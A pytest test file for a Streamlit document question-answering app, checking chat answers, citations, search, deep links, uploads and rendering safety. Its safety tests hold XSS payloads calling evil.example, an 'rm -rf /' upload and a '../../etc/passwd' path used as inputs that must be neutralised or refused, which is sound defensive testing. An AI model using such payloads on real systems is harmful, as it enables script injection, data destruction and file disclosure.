"""The Streamlit page, driven by streamlit.testing.v1.AppTest over the tiny corpus.

The app builds its own Engine from RETRIEVAL_* variables; the only thing swapped is the
model: ``SentenceTransformerEmbedder`` becomes the deterministic FakeEmbedder the index
was built with. A few tests replace ``Engine.ask`` by a function returning a real
``Answer`` built from real search results, to reach a state (abstention, rewriting) on
purpose; the ask and follow-up tests run the real ``Engine.ask``.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
import streamlit as st
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

import retrieval.answer.reader as reader
import retrieval.engine
import retrieval.store.index_store
from retrieval import Engine, FakeEmbedder
from retrieval.types import Answer, Citation

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "app.py")
HEADER = re.compile(r"\\#\d+ · ")   # the header line of a search result
QUOTE = "The port of Chancay opened north of Lima in November 2024."

MALICIOUS = (
    "# Llama wool prices\n\n"
    "Llama wool prices rose in Bolivia. <script>window.__xss=1;alert('xss')</script> "
    "The cooperative sold llama wool to Japan.\n\n"
    "Buyers paid more for llama wool <img src=x onerror=\"fetch('http://evil.example/i')\"> "
    "in Bolivia. Click [x](javascript:alert(1)) for llama prices.\n\n"
    "The llama wool report had ![](http://evil.example/track.png?q=secret) and "
    "<a href=\"http://evil.example\">a link</a> and www.evil.example too.\n"
)


@pytest.fixture
def app_engine(fake_engine, monkeypatch, tmp_path):
    """Point the app at the tiny corpus and its index (built with the FakeEmbedder)."""
    monkeypatch.setenv("RETRIEVAL_SOURCE_DIR", str(fake_engine.settings.source_dir))
    monkeypatch.setenv("RETRIEVAL_CONVERSATION_DIR", str(tmp_path / "conversations"))
    monkeypatch.setenv("RETRIEVAL_INDEX_DIR", str(fake_engine.settings.index_dir))
    monkeypatch.setattr(retrieval.engine, "SentenceTransformerEmbedder",
                        lambda *args, **kwargs: FakeEmbedder())
    monkeypatch.setattr(reader.Reader, "load",
                        classmethod(lambda cls, *args, **kwargs: reader.FakeReader()))
    yield fake_engine
    st.cache_resource.clear()


def run_app(**query: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60)
    for key, value in query.items():
        at.query_params[key] = value
    return at.run()


def assert_clean(at: AppTest) -> None:
    assert not at.exception, [e.value for e in at.exception]


def plain(markdown: str) -> str:
    """Escaped Markdown back to the text it shows."""
    return markdown.replace("\\", "").replace("\u2060", "")


def errors(node) -> list[str]:
    return [plain(e.value) for e in node.error]


def bodies(node) -> list[str]:
    return [m.value for m in node.markdown]


def cite(engine: Engine, query: str, quote: str, n: int = 1) -> Citation:
    """A real citation: the passage that holds ``quote``, with its document offsets."""
    passage = next(p for p in engine.search(query, k=10) if quote in p.text)
    start = passage.chunk.start + passage.text.index(quote)
    snap = engine.store.load(engine.embedder)
    para = next(p for p in snap.paragraphs[passage.doc].values() if p.start <= start < p.end)
    return Citation(n, passage, para.number, quote, start, start + len(quote))


def chancay_answer(engine: Engine, question: str) -> Answer:
    """A one-sentence answer citing QUOTE."""
    c = cite(engine, "Chancay Lima", QUOTE)
    return Answer(question, "Chancay [1].", False, [c], [c.passage], query=question)


def fake_ask(monkeypatch, make) -> list[dict]:
    calls: list[dict] = []

    def ask(self, question, history=None, k=None, docs=None, llm=None):
        calls.append({"question": question, "history": history, "k": k, "docs": docs,
                      "llm": llm})
        return make(self, question)

    monkeypatch.setattr(Engine, "ask", ask, raising=False)
    return calls


# ---------------------------------------------------------------------------- chat
def test_first_load_shows_status_and_no_error(app_engine):
    at = run_app()
    assert_clean(at)
    assert not at.error
    status = " ".join(bodies(at.sidebar))
    assert "4 documents" in status and "4 chunks" in status
    assert any("Fresh" in s.value for s in at.sidebar.success)


def test_page_runs_read_no_file_again_while_nothing_changes(app_engine, monkeypatch):
    """The sidebar's freshness check: a source file is hashed only when its size or mtime
    differs from the manifest's record, and each index file once per process."""
    source = app_engine.source_dir
    for path in source.iterdir():  # files an hour old: their stat is recorded by the build
        stat = path.stat()
        os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns - 3600 * 10**9))
    app_engine.update_index(rebuild=True)
    assert_clean(run_app())  # the first run verifies the index files
    hashed: list[Path] = []
    real = retrieval.store.index_store.sha256_file
    monkeypatch.setattr(retrieval.store.index_store, "sha256_file",
                        lambda path: hashed.append(Path(path)) or real(path))
    for _ in range(2):
        at = run_app()
        assert_clean(at)
        assert any("Fresh" in s.value for s in at.sidebar.success)
    assert hashed == []
    (source / "coffee.txt").write_text("Coffee\n\nA new harvest report.\n", encoding="utf-8")
    at = run_app()
    assert any("Stale: 1 changed" in plain(w.value) for w in at.sidebar.warning)
    assert hashed == [source / "coffee.txt"]


def test_the_page_sets_the_offline_environment(app_engine, monkeypatch):
    for name in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE", "TOKENIZERS_PARALLELISM"):
        monkeypatch.delenv(name, raising=False)
    assert_clean(run_app())
    assert os.environ["HF_HUB_OFFLINE"] == os.environ["TRANSFORMERS_OFFLINE"] == "1"
    assert os.environ["TOKENIZERS_PARALLELISM"] == "false"


def test_ask_shows_cited_answer_and_source_in_context(app_engine):
    at = run_app()
    at.chat_input[0].set_value("Which port opened north of Lima?").run()
    assert_clean(at)
    assert not errors(at), errors(at)
    user, assistant = at.chat_message
    assert "Which port opened north of Lima" in user.markdown[0].value
    answer = assistant.markdown[0].value
    assert "**\\[1\\]**" in answer                       # the [1] marker, shown in bold
    text = " ".join(bodies(assistant))
    assert "Sources" in text
    assert "ports\\.txt" in text                          # the cited document
    highlighted = [b for b in bodies(assistant) if ":orange-background[" in b]
    assert highlighted, "the supporting sentence is highlighted"
    context = next(e for e in assistant.expander if e.label == "Open in context")
    paras = bodies(context)
    assert any("⟵ cited" in b and ":orange-background[" in b for b in paras)
    assert any("Ships from Shanghai" in b for b in paras)     # a neighbouring paragraph
    assert any("?doc=ports.txt&para=" in c.value for c in context.code)


def test_follow_up_passes_history_and_shows_rewritten_query(app_engine, monkeypatch):
    real_ask = Engine.ask
    seen: list = []

    def spy(self, question, history=None, **kwargs):
        seen.append(history)
        return real_ask(self, question, history=history, **kwargs)

    monkeypatch.setattr(Engine, "ask", spy)
    at = run_app()
    at.chat_input[0].set_value("Which port opened north of Lima?").run()
    at.chat_input[0].set_value("And when did it open?").run()
    assert_clean(at)
    assert len(at.chat_message) == 4
    assert not seen[0]
    assert [a.question for a in seen[1]] == ["Which port opened north of Lima?"]
    answer = at.session_state.turns[1]["answer"]
    assert answer.rewritten and "port" in answer.query.lower()
    captions = [plain(c.value) for c in at.chat_message[3].caption]
    assert f"Follow-up searched as: {answer.query}" in captions
    assert plain(at.chat_message[3].markdown[0].value).startswith(
        "**Not in the articles.**" if answer.abstained else answer.text[:20])


def test_an_answer_citing_one_passage_twice_draws_both_and_keeps_the_chat(app_engine,
                                                                         monkeypatch):
    """"… [1] In particular, … [1]": two cards of one citation number, each with its own key."""
    second = "Ships from Shanghai reach Chancay in about 23 days."

    def make(engine, question):
        first, other = cite(engine, "Chancay Lima", QUOTE), cite(engine, "Chancay", second)
        return Answer(question, f"{QUOTE} [1] In particular, {second} [1]", False,
                      [first, other], [first.passage], query=question)

    fake_ask(monkeypatch, make)
    at = run_app()
    at.chat_input[0].set_value("Which port opened north of Lima?").run()
    assert_clean(at)
    assert not errors(at), errors(at)
    # one number per paragraph, as the export has it
    assert at.chat_message[1].markdown[0].value.endswith(
        "In particular\\, Ships from Shanghai reach Chancay in about 23 days\\. **\\[2\\]**")
    cards = [b for b in bodies(at.chat_message[1]) if re.match(r"\*\*\\\[\d\\\]\*\*", b)]
    assert [c[:9] for c in cards] == ["**\\[1\\]**", "**\\[2\\]**"]
    at.chat_input[0].set_value("And how long from Shanghai?").run()   # the redraw holds too
    assert_clean(at)
    assert not errors(at), errors(at)
    assert len(at.chat_message) == 4 and at.chat_input


def test_a_turn_that_cannot_be_drawn_leaves_the_question_box(app_engine, monkeypatch):
    import retrieval.ui.render

    fake_ask(monkeypatch, lambda engine, q: Answer(q, "Chancay.", False, [], [], query=q))
    at = run_app()
    at.chat_input[0].set_value("Which port opened north of Lima?").run()
    monkeypatch.setattr(retrieval.ui.render, "answer_markdown",
                        lambda text, phrases=(): (_ for _ in ()).throw(ValueError("broken turn")))
    at.run()
    assert_clean(at)
    assert len(errors(at)) == 1 and "broken turn" in errors(at)[0]
    assert at.chat_input


def test_rewritten_query_and_notice_are_shown(app_engine, monkeypatch):
    def make(engine, question):
        c = cite(engine, "Shanghai Chancay days", "Ships from Shanghai reach Chancay in about "
                 "23 days.")
        return Answer(question, "About 23 days [1].", False, [c], [c.passage],
                      query="Chancay port ships from Shanghai days", rewritten=True,
                      notice="The LLM timed out; showing the extractive answer.")

    fake_ask(monkeypatch, make)
    at = run_app()
    at.chat_input[0].set_value("and how long from Shanghai?").run()
    assert_clean(at)
    assistant = at.chat_message[1]
    assert assistant.caption[0].value == (
        "Follow-up searched as: Chancay port ships from Shanghai days")
    assert "LLM timed out" in assistant.info[0].value


def test_empty_input_is_one_error_line_and_no_turn(app_engine, monkeypatch):
    calls = fake_ask(monkeypatch, lambda engine, q: pytest.fail("ask must not be called"))
    at = run_app()
    at.chat_input[0].set_value("   \n ").run()
    assert_clean(at)
    assert errors(at) == ["the query is empty; type a question or some search words"]
    assert not at.chat_message and not calls
    assert at.session_state.turns == []


def test_no_answer_says_so_and_shows_closest_passages(app_engine):
    at = run_app()
    at.chat_input[0].set_value("What is the population of the colonies on Mars?").run()
    assert_clean(at)
    assistant = at.chat_message[1]
    shown = plain(assistant.markdown[0].value)
    assert shown.startswith("**Not in the articles.** ") and "don't say" not in shown
    assert at.session_state.turns[0]["answer"].abstained
    assert "Closest passages:" in bodies(assistant)
    cards = [b for b in bodies(assistant) if HEADER.match(b)]
    assert cards                                            # the closest passages are shown
    assert not [b for b in bodies(assistant) if ":orange-background[" in b]


def test_backend_error_is_one_line_and_kept_in_the_conversation(app_engine, monkeypatch):
    from retrieval import LLMError

    def make(engine, question):
        raise LLMError("the LLM at http://localhost:9 refused the connection; start it or "
                       "choose extractive answers")

    fake_ask(monkeypatch, make)
    at = run_app()
    at.chat_input[0].set_value("Which port opened?").run()
    assert_clean(at)
    assert errors(at) == [
        "the LLM at http://localhost:9 refused the connection; start it or choose extractive "
        "answers"]
    assert len(at.session_state.turns) == 1


# ---------------------------------------------------------------------------- search
def test_search_with_a_document_filter(app_engine):
    at = run_app()
    at.sidebar.radio(key="page").set_value("Search").run()
    at.text_input(key="search_query").set_value("coffee port").run()
    assert_clean(at)
    headers = [b for b in bodies(at.main) if HEADER.match(b)]
    assert {h.split(" · ")[1] for h in headers} >= {"coffee\\.txt", "ports\\.txt"}
    assert any(":blue-background[coffee]" in b for b in bodies(at.main))

    at.sidebar.multiselect(key="docs").set_value(["ports.txt"]).run()
    assert_clean(at)
    headers = [b for b in bodies(at.main) if HEADER.match(b)]
    assert headers and {h.split(" · ")[1] for h in headers} == {"ports\\.txt"}
    assert any(c.value.endswith("in 1 selected document") for c in at.main.caption)


def test_the_document_filter_offers_article_titles(app_engine):
    corpus = app_engine.settings.source_dir
    (corpus / "000_a20fb98d03a282a8.txt").write_text(
        "Coffee harvest in Vietnam\n\nA second report on the robusta harvest.\n")
    app_engine.update_index()
    at = run_app()
    docs = at.sidebar.multiselect(key="docs")
    assert docs.options == ["A new port for Peru", "Alpacas of the Andes",
                            "Coffee harvest in Vietnam (000_a20fb98d03a282a8.txt)",
                            "Coffee harvest in Vietnam (coffee.txt)", "Fast trains in China"]
    docs.set_value(["ports.txt"]).run()
    assert_clean(at)
    assert at.sidebar.multiselect(key="docs").value == ["ports.txt"]


def test_a_filtered_ask_that_finds_nothing_names_the_filter(app_engine, monkeypatch):
    fake_ask(monkeypatch, lambda engine, q: Answer(q, "The articles don't say.", True, [],
                                                   engine.search(q, k=2, docs=["ports.txt"]),
                                                   query=q))
    at = run_app()
    at.sidebar.multiselect(key="docs").set_value(["ports.txt"]).run()
    at.chat_input[0].set_value("How much does an alpaca weigh?").run()
    assert_clean(at)
    notes = [plain(i.value) for i in at.chat_message[1].info]
    assert notes == ["Searched only 1 selected document: A new port for Peru. Clear “Only these "
                     "documents” in the sidebar to search every document."]
    at.sidebar.multiselect(key="docs").set_value([]).run()   # the note stays with its turn
    assert [plain(i.value) for i in at.chat_message[1].info] == notes


def test_a_search_matching_no_keyword_says_the_matches_are_weak(app_engine):
    at = run_app()
    at.sidebar.radio(key="page").set_value("Search").run()
    at.text_input(key="search_query").set_value("xyzzy quantum flux").run()
    assert_clean(at)
    assert [b for b in bodies(at.main) if HEADER.match(b)]
    assert any(i.value.startswith("Weak matches: no passage holds a word of the search")
               for i in at.main.info)
    at.text_input(key="search_query").set_value("coffee port").run()
    assert not any("Weak matches" in i.value for i in at.main.info)


# ---------------------------------------------------------------------------- deep links
def dialog(at: AppTest):
    """The open dialog's block, or None."""
    return next((n for n in _walk(at._tree) if getattr(n, "type", "") == "dialog"), None)


def test_deep_link_opens_paragraph_in_context_with_highlight(app_engine):
    c = cite(app_engine, "Chancay Lima", QUOTE)
    at = run_app(doc="ports.txt", para=str(c.paragraph), hl=f"{c.quote_start}-{c.quote_end}")
    assert_clean(at)
    assert not at.error
    assert dialog(at) is not None and dialog(at).proto.dialog.title == "Linked paragraph"
    paras = bodies(at)
    cited = [b for b in paras if "⟵ cited" in b]
    assert len(cited) == 1 and f"¶ {c.paragraph}" in cited[0]
    assert ":orange-background[The port of Chancay opened north of Lima in November " in cited[0]
    assert any("Ships from Shanghai" in b for b in paras)


@pytest.mark.parametrize(("doc", "para", "expected"), [
    ("ports.txt", "abc", "a paragraph link needs ?doc=NAME&para=NUMBER"),
    ("ports.txt", "99", "paragraph 99 of ports.txt is not in the index"),
    ("nope.txt", "1", "paragraph 1 of nope.txt is not in the index"),
])
def test_bad_deep_link_is_one_error_line(app_engine, doc, para, expected):
    at = run_app(doc=doc, para=para)
    assert_clean(at)
    assert len(errors(at)) == 1 and errors(at)[0].startswith(expected), errors(at)


# ---------------------------------------------------------------------------- sidebar
def test_upload_adds_a_file_and_reindexes(app_engine):
    corpus = app_engine.settings.source_dir
    at = run_app()
    text = b"Llamas of Bolivia\n\nLlamas carry salt across the Altiplano of Bolivia.\n"
    at.sidebar.file_uploader[0].set_value(("../../llamas.txt", text, "text/plain")).run()
    assert_clean(at)
    assert (corpus / "llamas.txt").read_bytes() == text
    assert not (corpus.parent.parent / "llamas.txt").exists()
    assert any("llamas.txt: added" in plain(s.value) for s in at.sidebar.success)
    assert "5 documents" in " ".join(bodies(at.sidebar))
    assert any("Fresh" in s.value for s in at.sidebar.success)

    at.sidebar.file_uploader[0].set_value(("llamas.txt", b"other text\n", "text/plain")).run()
    assert_clean(at)
    assert any("already in the corpus with different content" in e
               for e in errors(at.sidebar))
    assert (corpus / "llamas.txt").read_bytes() == text


def test_upload_of_a_bad_type_is_refused(app_engine):
    at = run_app()
    at.sidebar.file_uploader[0].set_value(("run.sh", b"rm -rf /\n", "text/plain")).run()
    assert_clean(at)
    from retrieval.ingest.load import SUPPORTED_SUFFIXES

    assert errors(at.sidebar) == [
        f"run.sh: file type .sh is not accepted; upload {', '.join(SUPPORTED_SUFFIXES)} files"]
    accepts = f"Accepts {', '.join(SUPPORTED_SUFFIXES)} up to 20 MB each."
    assert accepts in [plain(c.value) for c in at.sidebar.caption]    # said before an upload
    assert not (app_engine.settings.source_dir / "run.sh").exists()


def test_stale_index_can_be_updated_from_the_sidebar(app_engine):
    (app_engine.settings.source_dir / "extra.md").write_text("# Extra\n\nSome new text.\n")
    at = run_app()
    assert any("Stale: 1 added" in w.value for w in at.sidebar.warning)
    next(b for b in at.sidebar.button if b.label == "Update index").click().run()
    assert_clean(at)
    assert any("Fresh" in s.value for s in at.sidebar.success)
    assert any("indexed" in plain(s.value) for s in at.sidebar.success)


def test_export_holds_questions_answers_and_citations(app_engine, monkeypatch):
    fake_ask(monkeypatch, chancay_answer)
    at = run_app()
    assert at.sidebar.download_button[0].proto.disabled
    at.chat_input[0].set_value("Which port opened north of Lima?").run()
    assert_clean(at)
    exported = at.session_state.export_markdown
    assert "## 1. Which port opened north of Lima?" in exported
    assert "Chancay \\[1\\]." in exported
    assert "ports.txt" in exported and f"> {QUOTE}" in exported
    assert "<http://localhost:8501/?doc=ports.txt&para=" in exported   # a link to follow
    assert not at.sidebar.download_button[0].proto.disabled


def test_export_links_use_the_public_url_setting(app_engine, monkeypatch):
    fake_ask(monkeypatch, chancay_answer)
    monkeypatch.setenv("RETRIEVAL_PUBLIC_URL", "https://news.example.org/ask/")
    at = run_app()
    at.chat_input[0].set_value("Which port opened north of Lima?").run()
    assert_clean(at)
    assert "<https://news.example.org/ask/?doc=ports.txt&para=" in at.session_state.export_markdown
    context = next(e for e in at.chat_message[1].expander if e.label == "Open in context")
    assert context.code[0].value.startswith("https://news.example.org/ask/?doc=ports.txt&para=")


def test_corrupt_index_is_one_error_line(app_engine):
    manifest = app_engine.store.manifest_path
    manifest.write_text("{not json")
    at = run_app()
    assert_clean(at)
    assert errors(at) and all("\n" not in e for e in errors(at))
    assert any("manifest.json is unreadable or malformed" in e for e in errors(at))
    assert any(b.label == "Rebuild index" for b in at.sidebar.button)


# ---------------------------------------------------------------------------- safety
def _walk(node):
    yield node
    children = getattr(node, "children", None)
    if isinstance(children, dict):
        for child in children.values():
            yield from _walk(child)


def assert_no_html(at: AppTest) -> list[str]:
    """No element enables HTML; every Markdown body renders without tags, links or images."""
    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    seen = []
    for node in _walk(at._tree):
        proto = getattr(node, "proto", None)
        assert getattr(node, "type", "") not in ("html", "iframe", "components_v1", "bidi")
        if proto is not None and hasattr(proto, "allow_html"):
            assert proto.allow_html is False
        if hasattr(proto, "body") and isinstance(proto.body, str):
            html = md.render(proto.body)
            for tag in ("<script", "<img", "<a ", "<iframe"):
                assert tag not in html, proto.body
            seen.append(proto.body)
    return seen


def test_malicious_document_renders_as_inert_text(app_engine, monkeypatch):
    corpus = app_engine.settings.source_dir
    (corpus / "evil.txt").write_text(MALICIOUS)
    app_engine.update_index()

    def make(engine, question):
        passages = engine.search("llama wool Bolivia", k=5)
        evil = next(p for p in passages if p.doc == "evil.txt")
        quote = next(s for s in evil.text.split("\n\n") if "<script>" in s)
        start = evil.chunk.start + evil.text.index(quote)
        para = next(p for p in engine.store.load().paragraphs["evil.txt"].values()
                    if p.start <= start < p.end)
        c = Citation(1, evil, para.number, quote, start, start + len(quote))
        return Answer(question, "See <script>alert(1)</script> [x](javascript:1) [1].", False,
                      [c], passages, query=question)

    fake_ask(monkeypatch, make)
    at = run_app()
    at.chat_input[0].set_value("What did <img src=x onerror=alert(1)> llama wool cost?").run()
    assert_clean(at)
    shown = assert_no_html(at)
    assert any("\\<script\\>" in b for b in shown)          # shown as text, not dropped
    assert any("evil\\.txt" in b for b in shown)

    at.sidebar.radio(key="page").set_value("Search").run()
    at.text_input(key="search_query").set_value("llama wool").run()
    assert_clean(at)
    shown = assert_no_html(at)
    assert any("javascript" in b and "\\]\\(" in b for b in shown)


def test_missing_index_can_be_built_from_the_sidebar(app_engine, tmp_path, monkeypatch):
    monkeypatch.setenv("RETRIEVAL_INDEX_DIR", str(tmp_path / "new-index"))
    at = run_app()
    assert_clean(at)
    assert any("No index yet" in w.value for w in at.sidebar.warning)
    assert "no usable index yet" in at.main.info[0].value
    next(b for b in at.sidebar.button if b.label == "Build index").click().run()
    assert_clean(at)
    assert any("Fresh" in s.value for s in at.sidebar.success)
    assert (tmp_path / "new-index" / "manifest.json").exists()
    assert at.chat_input


def test_bad_setting_is_one_error_line(app_engine, monkeypatch):
    monkeypatch.setenv("RETRIEVAL_K", "0")
    at = run_app()
    assert_clean(at)
    assert errors(at) == ["setting k: Value error, must be greater than 0. Currently, it is 0"]


def button(node, label: str):
    return next(b for b in node.button if b.label == label)


def test_rebuild_button_asks_first_then_reindexes_with_progress(app_engine):
    before = app_engine.store.read_manifest().generation
    at = run_app()
    button(at.sidebar, "Rebuild index").click().run()
    assert_clean(at)
    assert any(w.value.startswith("Rebuild the index?") for w in at.sidebar.warning)
    assert app_engine.store.read_manifest().generation == before
    button(at.sidebar, "Cancel").click().run()
    assert not any("Rebuild the index?" in w.value for w in at.sidebar.warning)
    assert app_engine.store.read_manifest().generation == before
    button(at.sidebar, "Rebuild index").click().run()
    button(at.sidebar, "Yes, rebuild").click().run()
    assert_clean(at)
    assert any("indexed 4 chunks" in plain(s.value) for s in at.sidebar.success)
    assert app_engine.store.read_manifest().generation != before


def test_llm_mode_is_offered_only_when_configured(app_engine, monkeypatch):
    calls = fake_ask(monkeypatch, lambda engine, q: Answer(q, "The articles don't say.", True,
                                                         [], [], query=q))
    at = run_app()
    assert at.sidebar.radio(key="answer_mode").disabled
    monkeypatch.setenv("RETRIEVAL_LLM_MODEL", "local-model")
    at = run_app()
    mode = at.sidebar.radio(key="answer_mode")
    assert not mode.disabled
    mode.set_value("LLM")
    at.sidebar.slider(key="k").set_value(3)
    at.sidebar.multiselect(key="docs").set_value(["ports.txt"]).run()
    at.chat_input[0].set_value("Which port opened?").run()
    assert_clean(at)
    assert calls[-1] == {"question": "Which port opened?", "history": None, "k": 3,
                         "docs": ["ports.txt"], "llm": True}


def test_rebuild_progress_names_what_it_counts(app_engine, monkeypatch):
    """The bar counted sentences under the label of a status that counts chunks."""
    def update_index(self, rebuild=False, progress=None):
        progress("embedding", 1200, 5000)
        raise RuntimeError("stopped here to read the bar")

    monkeypatch.setattr(Engine, "update_index", update_index)
    at = run_app()
    button(at.sidebar, "Rebuild index").click().run()
    button(at.sidebar, "Yes, rebuild").click().run()
    bars = [el.proto.text for el in at.get("progress")]
    assert bars == ["embedding: 1,200/5,000 sentences"]


def test_an_unexpected_error_says_what_to_do_not_where_the_log_is(app_engine, monkeypatch):
    def make(engine, question):
        raise KeyError("chunk 7")

    fake_ask(monkeypatch, make)
    at = run_app()
    at.chat_input[0].set_value("Which port opened?").run()
    assert_clean(at)
    [line] = errors(at)
    assert line.startswith("unexpected KeyError: 'chunk 7'. ")
    assert "try again" in line and "server log" not in line


def test_an_abstention_says_it_once(app_engine, monkeypatch):
    text = ("The articles don't say: none of them mentions Hormuz, so nothing in them answers "
            "“Where is Hormuz”. The closest passages are listed below.")
    fake_ask(monkeypatch, lambda engine, q: Answer(q, text, True, [],
                                                   engine.search(q, k=2), query=q))
    at = run_app()
    at.chat_input[0].set_value("Where is Hormuz?").run()
    assert_clean(at)
    shown = plain(at.chat_message[1].markdown[0].value)
    assert shown.startswith("**Not in the articles.** None of them mentions Hormuz, so ")
    assert "don't say" not in shown


def test_open_this_link_shows_the_paragraph_in_a_dialog_in_view(app_engine, monkeypatch):
    """It had opened the paragraph at the top of the page, far above a long chat."""
    fake_ask(monkeypatch, chancay_answer)
    at = run_app()
    for question in ("Which port opened north of Lima?", "And which port is that?"):
        at.chat_input[0].set_value(question).run()
    assert dialog(at) is None
    card = at.chat_message[3]
    next(b for b in card.button if b.label == "Open this link").click().run()
    assert_clean(at)
    assert at.query_params["doc"] == "ports.txt"
    opened = dialog(at)
    assert opened is not None and opened.proto.dialog.is_open
    assert any("⟵ cited" in m.value and ":orange-background[" in m.value
               for m in opened.markdown)
    assert len(at.chat_message) == 4                      # the chat is still there
    next(b for b in opened.button if b.label == "Close").click().run()
    assert dialog(at) is None and "doc" not in at.query_params
    assert at.query_params["c"] == at.session_state.session_id   # the conversation stays


def test_a_reload_keeps_the_conversation(app_engine, monkeypatch, tmp_path):

    fake_ask(monkeypatch, chancay_answer)
    at = run_app()
    at.chat_input[0].set_value("Which port opened north of Lima?").run()
    sid = at.query_params["c"]
    reloaded = run_app(c=sid)                        # a new session, the same URL
    assert_clean(reloaded)
    assert len(reloaded.chat_message) == 2
    assert "Which port opened north of Lima" in reloaded.chat_message[0].markdown[0].value
    assert reloaded.chat_message[1].markdown[0].value == "Chancay **\\[1\\]**\\."
    assert "## 1. Which port opened north of Lima?" in reloaded.session_state.export_markdown
    reloaded.chat_input[0].set_value("And when?").run()    # it goes on where it was
    assert len(reloaded.session_state.turns) == 2
    for bad in ("../../etc/passwd", "0" * 31, "f" * 32):   # unknown or malformed: a new one
        fresh = run_app(c=bad)
        assert_clean(fresh)
        assert not fresh.chat_message and not fresh.error
    assert [p.name for p in (tmp_path / "conversations").iterdir()] == [f"{sid}.json"]


def test_a_document_is_removed_from_the_page_after_confirmation(app_engine):
    corpus = app_engine.settings.source_dir
    at = run_app()
    at.sidebar.selectbox(key="remove_doc").set_value("coffee.txt").run()
    button(at.sidebar, "Remove…").click().run()
    assert_clean(at)
    assert any(w.value.startswith("Remove Coffee harvest in Vietnam \\(coffee\\.txt\\) from")
               for w in at.sidebar.warning)
    button(at.sidebar, "Cancel").click().run()
    assert (corpus / "coffee.txt").exists()
    button(at.sidebar, "Remove…").click().run()
    button(at.sidebar, "Yes, remove").click().run()
    assert_clean(at)
    assert not (corpus / "coffee.txt").exists()
    assert [p.name.endswith("-coffee.txt") for p in (corpus / ".removed").iterdir()] == [True]
    assert any("coffee.txt: removed" in plain(s.value) for s in at.sidebar.success)
    assert "3 documents" in " ".join(bodies(at.sidebar))
    assert any("Fresh" in s.value for s in at.sidebar.success)
    assert "Coffee harvest in Vietnam" not in at.sidebar.multiselect(key="docs").options
    assert at.sidebar.selectbox(key="remove_doc").value is None


WEB_PAGE = """<!doctype html><html><head><title>Chancay port opens | Harbour News</title>
<meta property="og:title" content="Chancay port opens">
<meta property="og:site_name" content="Harbour News">
<meta name="author" content="Ana Ruiz">
<meta property="article:published_time" content="2024-11-14">
<link rel="canonical" href="{url}">
</head><body><nav>Home | World | Sign in</nav><article><h1>Chancay port opens</h1>
<p>The deep-water terminal of Chancay opened north of Lima, with cranes from Shanghai.</p>
<p>Freighters from Shanghai reach the terminal of Chancay in about 23 days, its operator said.</p>
<p>Peru expects the terminal to cut shipping times to Asia by ten days for copper exports.</p>
</article><footer>Subscribe</footer></body></html>
"""


@pytest.mark.parametrize(("url", "shown"), [
    ("https://harbour.example/chancay-port",
     "Ana Ruiz · 2024\\-11\\-14 · Harbour News · [original page](<https://harbour.example/"
     "chancay-port>)"),
])
def test_a_web_page_card_shows_its_author_date_site_and_address(app_engine, url, shown):
    (app_engine.settings.source_dir / "chancay.html").write_text(WEB_PAGE.format(url=url))
    app_engine.update_index()
    at = run_app()
    at.sidebar.radio(key="page").set_value("Search").run()
    at.text_input(key="search_query").set_value("freighters terminal Chancay").run()
    assert_clean(at)
    cards = [b for b in bodies(at.main) if HEADER.match(b)]
    assert any("chancay\\.html" in b for b in cards) and any("ports\\.txt" in b for b in cards)
    about = [c.value for c in at.main.caption if "Harbour" in c.value]
    assert about == [shown] * sum("chancay\\.html" in b for b in cards)  # not on a .txt card


def test_a_pdf_citation_names_its_page(app_engine, monkeypatch):
    from synthetic_docs import make_pdf, typeset

    quote = "Freighters carry Peruvian copper concentrate from Chancay to Shanghai."
    pages = typeset(["Peru copper report", "Copper exports of Peru grew in 2024.", quote],
                    lines_per_page=2)
    (app_engine.settings.source_dir / "copper.pdf").write_bytes(make_pdf(pages))
    app_engine.update_index()

    def make(engine, question):
        c = cite(engine, "copper concentrate freighters", quote)
        return Answer(question, f"{quote} [1]", False, [c], [c.passage], query=question)

    fake_ask(monkeypatch, make)
    at = run_app()
    at.chat_input[0].set_value("What do freighters carry?").run()
    assert_clean(at)
    header = next(b for b in bodies(at.chat_message[1]) if b.startswith("**\\[1\\]**"))
    assert re.search(r" · p\. 2 ¶ 1 \(¶ \d+ of the file\) · ", header), header


def test_a_citation_or_passage_given_twice_is_shown_once(app_engine, monkeypatch):
    """A source holding a paragraph twice had shown the same card twice."""
    def make(engine, question):
        c = cite(engine, "Chancay Lima", QUOTE)
        passages = engine.search("Chancay port coffee", k=4)
        return Answer(question, f"{QUOTE} [1] {QUOTE} [1]", False, [c, c],
                      [c.passage, *passages, *passages], query=question)

    fake_ask(monkeypatch, make)
    at = run_app()
    at.chat_input[0].set_value("Which port opened north of Lima?").run()
    assert_clean(at)
    assistant = at.chat_message[1]
    assert len([b for b in bodies(assistant) if b.startswith("**\\[1\\]**")]) == 1
    other = next(e for e in assistant.expander if e.label.startswith("Other retrieved"))
    headers = [b.split(" · ")[1] for b in bodies(other) if HEADER.match(b)]
    assert len(headers) == len(set(headers)) == 3 and "ports\\.txt" not in headers
    assert other.label == "Other retrieved passages (3)"


def test_a_he_that_nothing_names_is_pointed_out(app_engine, monkeypatch):
    fake_ask(monkeypatch, lambda engine, q: Answer(q, "Chancay.", False, [], [], query=q))
    at = run_app()
    at.chat_input[0].set_value("Which port opened north of Lima?").run()
    assert not at.chat_message[1].info
    at.chat_input[0].set_value("When did he arrive there?").run()
    assert_clean(at)
    assert [plain(i.value) for i in at.chat_message[3].info] == [
        "Nothing earlier in this conversation names who “he” is, so this answer may be about "
        "someone else: ask again with the name."]


def test_two_sentences_of_one_paragraph_are_one_card_with_both_highlighted(app_engine,
                                                                           monkeypatch):
    first, second = ("Alpacas live in the high Andes of Peru.",
                     "Farmers keep them for their soft wool.")

    def make(engine, question):
        a, b = cite(engine, "alpacas Andes wool", first), cite(engine, "alpacas wool", second)
        assert a.paragraph == b.paragraph
        return Answer(question, f"{first} [1] In particular, {second} [1]", False, [a, b],
                      [a.passage], query=question)

    fake_ask(monkeypatch, make)
    at = run_app()
    at.chat_input[0].set_value("Where do alpacas live?").run()
    assert_clean(at)
    assistant = at.chat_message[1]
    cards = [b for b in bodies(assistant) if b.startswith("**\\[1\\]**")]
    assert len(cards) == 1
    text = [b for b in bodies(assistant) if ":orange-background[" in b and "⟵" not in b]
    assert len(text) == 1 and text[0].count(":orange-background[") == 2
